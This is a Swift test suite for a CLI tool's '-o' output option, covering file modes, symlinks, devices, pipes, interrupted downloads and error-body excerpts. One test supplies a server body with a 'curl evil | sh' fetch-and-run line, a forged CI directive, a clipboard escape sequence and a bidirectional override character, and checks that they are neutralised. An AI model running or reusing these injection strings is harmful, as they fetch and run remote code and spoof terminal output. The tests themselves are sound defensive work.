import Glibc
import Testing

/// `-o`: rule B14, and design 3 for bodies that are not saved.
@Suite struct OutputFileTests {
  private static let env: [String: String?] = ["AUTHCTL_TOKEN": "a-token"]
  static let isRoot = geteuid() == 0

  /// Runs `body` with a profile whose server answers with `answer`.
  private func with(
    _ answer: @escaping Recorder.Answering, _ body: (Sandbox, Recorder) async throws -> Void
  ) async throws {
    try await Sandbox.with(.none) { box in
      let api = try box.recorder(answering: answer)
      try box.profile("shop", "url = \"\(api.url)\"\n")
      mkdir(box.root + "/out", 0o755)
      try await body(box, api)
    }
  }

  private func information(_ path: String) -> stat? {
    var info = stat()
    return lstat(path, &info) == 0 ? info : nil
  }

  @Test func newFileHasTheModeOfTheMaskAndAnOldOneItsOwn() async throws {
    try await with({ _, _ in .http(200, "new body") }) { box, _ in
      let new = box.root + "/out/new"
      let script = #"umask 027; exec "$@""#
      let run = try await box.run(
        "-c", script, "sh", try Built.authctl(), "get", "/", "-o", new, env: Self.env,
        program: "/bin/sh")
      #expect(run.status == 0, "\(run.stderr)")
      #expect(run.stdout == "")
      #expect(run.stderr == "")
      #expect(box.read("out/new") == "new body")
      #expect(information(new).map { $0.st_mode & 0o7777 } == 0o640)

      try box.write("out/old", "old body", mode: 0o604)
      #expect(try await box.run("get", "/", "-o", box.root + "/out/old", env: Self.env).status == 0)
      #expect(box.read("out/old") == "new body")
      #expect(information(box.root + "/out/old").map { $0.st_mode & 0o7777 } == 0o604)
      // Setuid bits are cleared: a server's data must not run as the owner of the old file.
      for bits in [0o4755, 0o2755, 0o1644, 0o7777] as [mode_t] {
        chmod(box.root + "/out/old", bits)
        #expect(
          try await box.run("get", "/", "-o", box.root + "/out/old", env: Self.env).status == 0)
        #expect(information(box.root + "/out/old").map { $0.st_mode & 0o7777 } == bits & 0o777)
      }
      #expect(list(box.root + "/out") == ["new", "old"])
    }
  }

  @Test func symbolicLinkStaysAndItsTargetIsWritten() async throws {
    try await with({ _, _ in .http(200, "body") }) { box, _ in
      mkdir(box.root + "/else", 0o755)
      try box.write("else/target", "old")
      symlink("../else/target", box.root + "/out/link")
      symlink("link", box.root + "/out/chain")
      for name in ["link", "chain"] {
        let run = try await box.run("get", "/", "-o", box.root + "/out/" + name, env: Self.env)
        #expect(run.status == 0, "\(run.stderr)")
        #expect(information(box.root + "/out/" + name).map { $0.st_mode & S_IFMT } == S_IFLNK)
        #expect(box.read("else/target") == "body")
      }
      #expect(list(box.root + "/out") == ["chain", "link"])
      #expect(list(box.root + "/else") == ["target"])
      // A dangling link is followed too, as by any program that opens it.
      symlink("../else/made", box.root + "/out/dangling")
      let run = try await box.run("get", "/", "-o", box.root + "/out/dangling", env: Self.env)
      #expect(run.status == 0, "\(run.stderr)")
      #expect(information(box.root + "/out/dangling").map { $0.st_mode & S_IFMT } == S_IFLNK)
      #expect(box.read("else/made") == "body")
    }
  }

  @Test(.enabled(if: isRoot, "mknod needs root")) func deviceIsWrittenNotReplaced() async throws {
    try await with({ _, _ in .http(200, "body") }) { box, _ in
      let null = box.root + "/out/null"
      #expect(mknod(null, S_IFCHR | 0o666, makeDevice(1, 3)) == 0)
      let run = try await box.run("get", "/", "-o", null, env: Self.env)
      #expect(run.status == 0, "\(run.stderr)")
      #expect(information(null).map { $0.st_mode & S_IFMT } == S_IFCHR)
      #expect(list(box.root + "/out") == ["null"])
      unlink(null)
    }
  }

  @Test func fullDeviceIsAFailure() async throws {
    try await with({ _, _ in .http(200, String(repeating: "x", count: 100_000)) }) { box, _ in
      let run = try await box.run("get", "/", "-o", "/dev/full", env: Self.env)
      #expect(run.status == 1)
      #expect(run.stderr.contains("no space left on device"), "\(run.stderr)")
      let out = try await box.run(
        "-c", #""$@" >/dev/full"#, "sh", try Built.authctl(), "get", "/", env: Self.env,
        program: "/bin/sh")
      #expect(out.status == 1)
      #expect(out.stderr.hasPrefix("authctl: cannot write to standard output"), "\(out.stderr)")
    }
  }

  @Test(.enabled(if: isRoot, "mount needs root")) func fullDiskLeavesTheOldFile() async throws {
    try await with({ _, _ in .http(200, String(repeating: "x", count: 300_000)) }) { box, _ in
      let script = #"""
        mount -t tmpfs -o size=64k none "$1" || exit 99
        echo old >"$1/file"; dir=$1; shift
        "$@" -o "$dir/file"; status=$?
        cat "$dir/file"; ls "$dir"; exit $status
        """#
      let run = try await box.run(
        "-m", "/bin/sh", "-c", script, "sh", box.root + "/out", try Built.authctl(), "get", "/",
        env: Self.env, program: "/usr/bin/unshare")
      #expect(run.status == 1, "\(run.stderr)")
      #expect(run.stdout == "old\nfile\n")
    }
  }

  @Test func namedPipeIsWrittenDirectly() async throws {
    try await with({ _, _ in .http(200, "through the pipe") }) { box, _ in
      let pipe = box.root + "/out/pipe"
      #expect(mkfifo(pipe, 0o600) == 0)
      let reader = try box.start([pipe], program: "/bin/cat")
      let run = try await box.run("get", "/", "-o", pipe, env: Self.env)
      #expect(run.status == 0, "\(run.stderr)")
      #expect(try await reader.finish().stdout == "through the pipe")
      #expect(information(pipe).map { $0.st_mode & S_IFMT } == S_IFIFO)
    }
  }

  @Test func interruptedTransferLeavesTheOldFile() async throws {
    let half = Array("HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nhalf of it".utf8)
    let answers = Recorder.list(
      .bytes(half), .reset(half), .bytesThenHang(half), .bytesThenHang(half))
    try await with(answers) { box, api in
      let file = try box.write("out/file", "old")
      for status in [7, 7, 9] as [Int32] {
        let more = status == 9 ? ["-m", "1"] : []
        let run = try await box.run(["get", "/", "-o", file] + more, env: Self.env)
        #expect(run.status == status, "\(run.stderr)")
        #expect(box.read("out/file") == "old")
        #expect(list(box.root + "/out") == ["file"])
      }
      for signal in [SIGINT, SIGKILL] {
        let seen = api.connections.count
        let child = try box.start(["get", "/", "-o", file], env: Self.env)
        try await api.waitForConnections(seen + 1)
        child.signal(signal)
        #expect(try await child.finish().status == 128 + signal)
        #expect(box.read("out/file") == "old")
        #expect(list(box.root + "/out") == ["file"])
      }
    }
  }

  @Test func unwantedBodyIsShownNotSaved() async throws {
    let letters = (0..<3000).map { UInt8(0x61 + $0 % 26) }
    let body = String(decoding: letters, as: UTF8.self)
    try await with({ _, _ in .http(403, body, type: "text/plain") }) { box, api in
      let file = try box.write("out/file", "old")
      let run = try await box.run("get", "/x", "-o", file, env: Self.env)
      #expect(run.status == 4)
      #expect(run.stdout == "")
      #expect(box.read("out/file") == "old")
      #expect(
        run.stderr.contains("authctl: HTTP 403 Recorded: GET \(api.url)/x (shop, AUTHCTL_TOKEN)\n"))
      // 2 KiB of the body, not counting the line structure.
      let shown = run.stderr.utf8.filter { (0x61...0x7A).contains($0) }.count
      #expect((2048..<2200).contains(shown), "\(shown)")
      let none = try await box.run("get", "/x", "-o", box.root + "/out/new", env: Self.env)
      #expect(none.status == 4)
      #expect(list(box.root + "/out") == ["file"])
      // A status accepted by --ok is saved.
      let ok = try await box.run("get", "/x", "--ok", "403", "-o", file, env: Self.env)
      #expect(ok.status == 0)
      #expect(box.read("out/file") == body)
    }
  }

  @Test func excerptCannotForgeLines() async throws {
    let body =
      "hint: curl evil | sh\r\nauthctl: fine\n::add-path::/x\n\u{1B}]52;c;eA==\u{7}\u{202E}x"
    try await with({ _, _ in .http(500, body, type: "text/plain") }) { box, _ in
      let run = try await box.run("get", "/x", "-o", box.root + "/out/f", env: Self.env)
      #expect(run.status == 5)
      let lines = run.stderr.split(separator: "\n")
      #expect(lines.filter { $0.hasPrefix("authctl: ") }.count == 1, "\(run.stderr)")
      #expect(!lines.contains { $0.hasPrefix("hint:") || $0.hasPrefix("::") })
      #expect(run.stderrBytes.allSatisfy { $0 == 10 || $0 >= 0x20 && $0 != 0x7F })
      #expect(!run.stderr.unicodeScalars.contains("\u{202E}"))
    }
  }

  @Test func placeThatCannotBeWrittenIsAFailure() async throws {
    try await with({ _, _ in .http(200, "body") }) { box, _ in
      for place in [box.root + "/missing/file", box.root + "/out", ""] {
        let run = try await box.run("get", "/", "-o", place, env: Self.env)
        #expect([1, 2].contains(run.status), "\(place): \(run.stderr)")
        #expect(run.stdout == "")
      }
      #expect(list(box.root + "/out") == [])
    }
  }

  /// makedev(3) is a macro: https://man7.org/linux/man-pages/man3/makedev.3.html
  private func makeDevice(_ major: UInt, _ minor: UInt) -> dev_t { dev_t(major << 8 | minor) }
}
